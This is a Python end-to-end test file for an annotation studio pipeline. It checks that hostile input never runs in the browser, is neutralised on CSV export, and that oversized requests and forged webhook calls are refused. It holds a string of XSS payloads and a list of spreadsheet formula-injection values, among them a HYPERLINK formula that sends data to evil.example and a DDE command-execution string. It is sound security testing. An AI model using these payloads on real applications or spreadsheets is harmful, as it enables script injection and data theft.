"""Input that means harm, through the real studio: scripts and formulas, megabytes, forged calls, wrong passwords."""

from __future__ import annotations

import csv
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from screen import Screen

from aku import checks_studio, provision, servers
from aku.doctor import Finding
from dialogue import Attribute, BackendError, Dialogue, Turn, Workspace, files, iter_dialogues, label_studio
from dialogue.label_studio import Card, card_from_dialogue

pytestmark = pytest.mark.e2e
EVIL = (
    "<script>window.harm='script'</script><img src=x onerror=\"window.harm='img'\"><svg onload=\"window.harm='svg'\">"
    "</svg><iframe srcdoc=\"<script>parent.harm='frame'</script>\"></iframe><details open ontoggle=\"window.harm='t'\">"
    "<a href=\"javascript:window.harm='link'\">x</a></details>{{7*7}}${alert(1)}'\"--></textarea></script>"
)
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1;1)", "＝1+1", "\t=1", " =1")


@pytest.fixture
def place(studio: Any, tmp_path: Path) -> Iterator[tuple[Workspace, int]]:
    """A workspace with its own project, connected to the studio's backend."""
    workspace, project = studio.new_workspace(tmp_path / "home", "hostile")
    provision.provision_backend(workspace, studio.url, project, studio.backend_url)
    yield workspace, project
    studio.client.projects.delete(id=project)


def add(studio: Any, project: int, dialogue: Dialogue, **data: Any) -> int:
    """Make a task with a finished annotation; returns the task's id."""
    task = {"data": {**label_studio.to_task(card_from_dialogue(dialogue)), **data}}
    task["data"].pop("record")
    studio.client.projects.import_tasks(id=project, request=[task])
    number = max(int(t.id) for t in studio.client.tasks.list(project=project, fields="task_only"))
    row = label_studio.to_annotation(dialogue)
    studio.client.annotations.create(id=number, result=row["result"], lead_time=1.0)
    return number


def said(*texts: str, context: str = "場面。") -> Dialogue:
    turns = tuple(Turn(("User", "Aku")[i % 2], text) for i, text in enumerate(texts))
    return Dialogue("x", context, turns, Attribute(2, 2), ("天気・季節",))


class Watched:
    """A page on which every sign of harm is noted."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.signs: list[str] = []
        page.on("dialog", lambda dialog: (self.signs.append(f"dialog {dialog.message}"), dialog.dismiss()))

    def check(self) -> None:
        """Give what was planted time to run, then see whether anything did."""
        self.page.wait_for_timeout(1500)
        for frame in self.page.frames:
            if harm := frame.evaluate("window.harm"):
                self.signs.append(f"ran: {harm}")
        assert self.signs == []


def exported(studio: Any, workspace: Workspace, *formats: str) -> Path:
    studio.aku("--home", str(workspace.home), "export", *(f"--format={name}" for name in formats))
    return Path(workspace.datasets / files.read_json(workspace.datasets / "latest.json")["id"])


def test_scripts_and_formulas_do_no_harm_from_card_to_report(
    browser: Any, studio: Any, place: tuple[Workspace, int]
) -> None:
    workspace, project = place
    task = add(studio, project, said(EVIL, EVIL, EVIL, EVIL, context=EVIL), card=EVIL, plan=EVIL, genre=[EVIL])
    for number in range(0, len(FORMULAS) - 1):
        add(studio, project, said(f"{FORMULAS[number]} {number}", FORMULAS[number + 1], context=FORMULAS[number]))

    screen = Screen(browser, studio)
    watched = Watched(screen.page)
    screen.open(project, task)
    assert screen.box(0).input_value() == EVIL
    assert EVIL[:30] in screen.page.inner_text(".aku-head")
    watched.check()
    screen.page.goto(f"{studio.url}/projects/{project}/data")
    screen.page.get_by_text("hostile").first.wait_for()
    watched.check()
    screen.close()

    version = exported(studio, workspace, "csv")
    texts = {turn.text for split in ("train", "validation", "test") for turn in _turns(version / f"{split}.jsonl")}
    assert EVIL in texts, "what was written is kept as it was written"
    assert FORMULAS[3] in texts
    cells = []
    for path in (workspace.datasets / "formats").rglob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert any(FORMULAS[0] in cell for cell in cells)
    assert [cell for cell in cells if cell.strip(" \u3000\t\r\n").startswith(tuple("=+-@＝＋－＠"))] == []

    studio.aku("--home", str(workspace.home), "report")
    index = workspace.home / files.read_json(workspace.reports / "latest.json")["path"]
    page = browser.new_page()
    watched = Watched(page)
    page.on("request", lambda r: r.url.startswith(("file:", "data:")) or watched.signs.append(f"request {r.url}"))
    page.goto(index.as_uri())
    for element in page.locator("details > summary").all():
        element.click()
    watched.check()
    page.close()


def _turns(path: Path) -> list[Turn]:
    return [turn for dialogue in iter_dialogues(path) for turn in dialogue.conversation]


def test_megabytes_of_text_are_refused_by_name_and_stop_nobody(studio: Any, place: tuple[Workspace, int]) -> None:
    workspace, project = place
    huge = "とても長い文。" * 200_000  # 4 MB as UTF-8
    good = add(studio, project, said("短いね。", "うん。"))
    bad = add(studio, project, said("短いね。", huge, context="場面。"), card=huge)
    card = Card(huge, huge, Attribute(1, 1), (), (Turn("User", huge), Turn("Aku", "")))
    auth = (studio.secrets["BACKEND_USER"], studio.secrets["BACKEND_PASSWORD"])
    body = {"tasks": [{"id": bad, "data": label_studio.to_task(card)}], "project": f"{project}.1", "params": {}}
    answer = httpx.post(f"{studio.backend_url}/predict", json=body, auth=auth, timeout=120)
    assert (answer.status_code, len(answer.json()["results"])) == (200, 1)
    body["tasks"][0]["more"] = huge * 8  # beyond what the backend takes at once
    assert httpx.post(f"{studio.backend_url}/predict", json=body, auth=auth, timeout=120).status_code == 413

    version = exported(studio, workspace)
    kept = [d for split in ("train", "validation", "test") for d in iter_dialogues(version / f"{split}.jsonl")]
    assert [d.source.task for d in kept] == [good]
    (rejected,) = [row for _, row in files.read_jsonl(version / "rejected.jsonl")]
    assert (rejected["task"], rejected["reason"]) == (bad, "length")
    assert len(rejected["message"]) < 500


def test_forged_calls_leave_no_trace(studio: Any) -> None:
    journal = studio.workspace.state / "webhooks.jsonl"
    annotation = {"id": 424242, "task": 424242, "updated_at": "2026-01-01", "result": []}
    body = {"action": "ANNOTATION_CREATED", "annotation": annotation, "project": {"id": studio.project}}
    forged: list[dict[str, Any]] = [
        {},
        {"headers": {"X-Webhook-Secret": "guess"}},
        {"headers": {"X-Webhook-Secret": ""}},
        {"headers": {"X-Webhook-Secret": studio.secrets["BACKEND_PASSWORD"]}},
        {"auth": (studio.secrets["BACKEND_USER"], "guess")},
        {"auth": (studio.secrets["BACKEND_USER"], studio.secrets["WEBHOOK_SECRET"])},
    ]
    for call in forged:
        assert httpx.post(f"{studio.backend_url}/webhook", json=body, timeout=30, **call).status_code == 401
        assert httpx.post(f"{studio.backend_url}/webhook/guess", json=body, timeout=30, **call).status_code == 401
    for path in ("setup", "predict"):
        headers = {"X-Webhook-Secret": studio.secrets["WEBHOOK_SECRET"]}  # opens the webhook alone
        answer = httpx.post(f"{studio.backend_url}/{path}", json=body, headers=headers, timeout=30)
        assert answer.status_code == 401
    written = journal.read_text(encoding="utf-8") if journal.exists() else ""
    assert "424242" not in written
    right = {"X-Webhook-Secret": studio.secrets["WEBHOOK_SECRET"]}
    assert httpx.post(f"{studio.backend_url}/webhook", json=body, headers=right, timeout=30).status_code == 201
    assert "424242" in journal.read_text(encoding="utf-8"), "the test can fail"


def test_a_backend_that_is_gone_or_has_another_password_is_found_and_mended(
    studio: Any, place: tuple[Workspace, int]
) -> None:
    workspace, project = place
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = int(probe.getsockname()[1])
    url = f"http://127.0.0.1:{port}"

    def finding() -> Finding:
        return next(f for f in checks_studio.studio(workspace) if f.name == "ML backend")

    backend = servers.start_backend(workspace, port)
    try:
        backend.wait(BackendError, 180)
        provision.provision_backend(workspace, studio.url, project, url)
        assert finding().level == "OK"
        backend.stop()
        assert "disconnected" in finding().message
        # It comes back with a new password; Label Studio still sends the old one and is let in nowhere.
        workspace.write_secrets({**workspace.read_secrets(), "BACKEND_PASSWORD": "a-new-password"})
        backend = servers.start_backend(workspace, port)
        backend.wait(BackendError, 180)
        locked_out = finding()
        assert locked_out.level == "FAIL"
        assert "aku up" in locked_out.remedy
        assert "password" not in locked_out.message
        provision.provision_backend(workspace, studio.url, project, url)
        assert finding().level == "OK"
    finally:
        backend.stop()
